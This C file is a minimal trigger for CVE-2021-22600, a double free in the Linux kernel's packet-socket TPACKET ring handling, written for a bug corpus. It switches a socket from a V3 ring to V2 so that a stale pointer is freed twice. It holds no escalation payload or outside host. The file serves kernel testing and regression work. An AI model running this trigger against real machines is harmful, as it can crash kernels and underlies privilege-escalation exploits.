// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2021-22600 trigger, written for krr's bug corpus from the fix (ec6af094ea28): a packet
 * socket's TPACKET_V3 receive ring leaves its block state (which points into the ring's page
 * vector) in the union that a TPACKET_V2 ring uses for its owner bitmap. Closing the V3 ring frees
 * the vector; switching to V2 and closing the (absent) ring again frees the stale pointer.
 */
#include <linux/if_packet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int set(int fd, int opt, const void *val, socklen_t len, const char *what)
{
	if (setsockopt(fd, SOL_PACKET, opt, val, len) < 0) {
		perror(what);
		return -1;
	}
	return 0;
}

int main(void)
{
	struct tpacket_req3 req3;
	struct tpacket_req req;
	int v3 = TPACKET_V3, v2 = TPACKET_V2;
	/* Protocol 0: the socket receives nothing, so the ring stays idle. */
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0) {
		perror("socket(AF_PACKET)");
		return 1;
	}
	memset(&req3, 0, sizeof(req3));
	req3.tp_block_size = 4096;
	req3.tp_block_nr = 1;
	req3.tp_frame_size = 2048;
	req3.tp_frame_nr = 2;
	req3.tp_retire_blk_tov = 100;
	if (set(fd, PACKET_VERSION, &v3, sizeof(v3), "PACKET_VERSION v3") ||
	    set(fd, PACKET_RX_RING, &req3, sizeof(req3), "PACKET_RX_RING v3"))
		return 1;
	/* Close the V3 ring: its page vector is freed, the union still points into it. */
	memset(&req3, 0, sizeof(req3));
	if (set(fd, PACKET_RX_RING, &req3, sizeof(req3), "PACKET_RX_RING v3 close") ||
	    set(fd, PACKET_VERSION, &v2, sizeof(v2), "PACKET_VERSION v2"))
		return 1;
	/* "Close" again as V2: the stale pointer is taken for the owner bitmap and freed. */
	memset(&req, 0, sizeof(req));
	if (set(fd, PACKET_RX_RING, &req, sizeof(req), "PACKET_RX_RING v2 close"))
		return 1;
	close(fd);
	printf("no report: the kernel is not vulnerable\n");
	return 0;
}
